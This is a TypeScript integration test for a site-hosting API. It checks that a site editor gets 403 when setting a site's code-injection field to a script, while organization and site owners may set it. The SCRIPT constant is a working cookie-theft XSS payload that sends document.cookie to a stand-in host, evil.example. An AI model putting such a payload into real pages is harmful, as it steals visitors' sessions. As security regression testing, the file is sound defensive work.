/**
 * Issue 19 item 3, replayed as the attacker did, through the gateway: a `site_editor` (a real invited
 * account, its edge context from identity) PATCHes `settings.code_injection` with `<script>`: 403
 * FORBIDDEN, nothing written. The organization owner and a site owner (invited with the structural
 * owner role) may (200).
 */
import { describe, expect, it } from "vitest";
import { call, createOrg, createSite, joinSiteByInvitation, verifiedUser } from "../support/platform";

const SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>";

describe("a site editor cannot put script on the live site", () => {
  it("editor -> 403 and nothing written; org owner and site owner -> 200", async () => {
    const owner = await verifiedUser();
    const org = await createOrg(owner.access_token, "Code Org");
    const site = await createSite(owner.access_token, org.id);
    const path = `/api/v1/sites/${site.id}`;
    const editor = (await joinSiteByInvitation(owner.access_token, site.id, "editor")).session;

    const before = await call<{ settings: unknown; updated_at: string }>("GET", path, {
      token: editor.access_token,
    });
    expect(before.status).toBe(200);
    const attack = await call("PATCH", path, {
      token: editor.access_token,
      body: { settings: { code_injection: SCRIPT } },
    });
    expect(attack.status, JSON.stringify(attack.body)).toBe(403);
    expect(attack.body).toMatchObject({ code: "FORBIDDEN" });
    const after = await call<{ settings: unknown; updated_at: string }>("GET", path, {
      token: owner.access_token,
    });
    expect(after.body.settings).toEqual(before.body.settings);
    expect(after.body.updated_at).toBe(before.body.updated_at);
    // The editor still edits what is theirs to edit.
    const rename = await call("PATCH", path, { token: editor.access_token, body: { name: "Renamed" } });
    expect(rename.status).toBe(200);

    const byOwner = await call<{ settings: Record<string, unknown> }>("PATCH", path, {
      token: owner.access_token,
      body: { settings: { code_injection: "<script>analytics()</script>" } },
    });
    expect(byOwner.status, JSON.stringify(byOwner.body)).toBe(200);
    expect(byOwner.body.settings.code_injection).toBe("<script>analytics()</script>");

    const siteOwner = (await joinSiteByInvitation(owner.access_token, site.id, "owner")).session;
    const bySiteOwner = await call<{ settings: Record<string, unknown> }>("PATCH", path, {
      token: siteOwner.access_token,
      body: { settings: { code_injection: "<script>analytics(2)</script>" } },
    });
    expect(bySiteOwner.status, JSON.stringify(bySiteOwner.body)).toBe(200);
    // And the editor resending it unchanged (with another change) passes.
    const resend = await call("PATCH", path, {
      token: editor.access_token,
      body: {
        settings: { code_injection: "<script>analytics(2)</script>", social: { x: "https://x.example" } },
      },
    });
    expect(resend.status, JSON.stringify(resend.body)).toBe(200);
  });
});
